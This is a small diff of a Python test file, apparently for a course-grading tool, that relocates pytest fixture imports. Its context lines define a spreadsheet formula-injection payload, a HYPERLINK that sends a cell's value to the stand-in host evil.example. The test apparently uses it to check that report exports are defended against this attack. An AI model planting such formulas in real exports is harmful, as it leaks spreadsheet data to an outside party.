@@ -19,8 +19,8 @@ from course_tools.rubric.report import write_report
 from course_tools.widgets.instructor.analytics import analytics_view
 from course_tools.widgets.instructor.dashboard import Dashboard
 from tests.paths import CONTENT
-from tests.rubric.conftest import built_class, class_dir, grading  # noqa: F401 (pytest fixtures)
 from tests.support.classroom import student_id
+from tests.support.rubric_class import built_class, class_dir, grading  # noqa: F401 (pytest fixtures)
 
 A = "review6"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
